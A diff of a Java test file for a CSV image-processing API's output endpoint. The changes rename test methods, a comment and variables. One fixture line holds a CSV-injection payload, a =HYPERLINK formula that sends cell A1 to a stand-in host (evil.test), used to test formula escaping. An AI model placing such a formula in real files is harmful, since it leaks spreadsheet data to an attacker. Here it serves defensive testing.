@@ -13,7 +13,7 @@ import org.junit.jupiter.api.extension.RegisterExtension;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
-/// The CSV that comes back.
+/// Downloading the output CSV.
 class OutputCsvTest {
     @RegisterExtension
     static final ServerFixture server = ServerFixture.start();
@@ -21,7 +21,7 @@ class OutputCsvTest {
     private final ApiClient apiClient = server.client();
 
     @Test
-    void givesTheCsvBackWithOneMoreColumn() {
+    void addsOneColumnToTheCsv() {
         var path =
                 apiClient.submit(HEADER + "001,\"Chair, oak\",\"http://a.test/1.jpg,http://a.test/missing.jpg\"\r\n");
         apiClient.awaitEnd(path);
@@ -37,7 +37,7 @@ class OutputCsvTest {
     }
 
     @Test
-    void givesTheSameBytesEveryTime() {
+    void returnsTheSameBytesEachTime() {
         var path = apiClient.submit(CSV);
         apiClient.awaitEnd(path);
 
@@ -47,22 +47,22 @@ class OutputCsvTest {
     }
 
     @Test
-    void isNotThereBeforeTheEndUnlessAPartIsWanted() {
-        var doors = new CountDownLatch(1);
-        server.imageService().holdUntil(doors);
+    void isAvailableBeforeTheEndOnlyAsPartialOutput() {
+        var gate = new CountDownLatch(1);
+        server.imageService().holdUntil(gate);
         var path = apiClient.submit(CSV);
 
         var whole = apiClient.get(path + "/output.csv");
-        var part = apiClient.get(path + "/output.csv?partial=true");
-        doors.countDown();
+        var partial = apiClient.get(path + "/output.csv?partial=true");
+        gate.countDown();
 
         assertThat(whole.statusAndCode()).isEqualTo("409 not_finished");
-        assertThat(part.status()).isEqualTo(200);
-        assertThat(part.text()).startsWith("Serial Number,Product Name,Input Image URLs,Output Image URLs\r\n");
+        assertThat(partial.status()).isEqualTo(200);
+        assertThat(partial.text()).startsWith("Serial Number,Product Name,Input Image URLs,Output Image URLs\r\n");
     }
 
     @Test
-    void givesFormulasBackAsTheyCameUnlessASpreadsheetIsToReadThem() {
+    void escapesFormulasOnlyWhenAskedTo() {
         var path = apiClient.submit(HEADER
                 + "-5,\"=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\")\",http://a.test/1.jpg\r\n"
                 + "@SUM(1),Chair,http://a.test/2.jpg\r\n");
@@ -78,7 +78,7 @@ class OutputCsvTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"partial", "safe"})
-    void refusesWhatIsNeitherTrueNorFalse(String field) {
+    void rejectsFlagsThatAreNotBoolean(String field) {
         var apiResponse = apiClient.get(apiClient.submit(CSV) + "/output.csv?" + field + "=yes");
 
         assertThat(apiResponse.statusAndCode()).isEqualTo("422 invalid_option");
@@ -86,7 +86,7 @@ class OutputCsvTest {
     }
 
     @Test
-    void tellsItsHeadersAlone() {
+    void supportsHead() {
         var path = apiClient.submit(CSV);
         apiClient.awaitEnd(path);
 
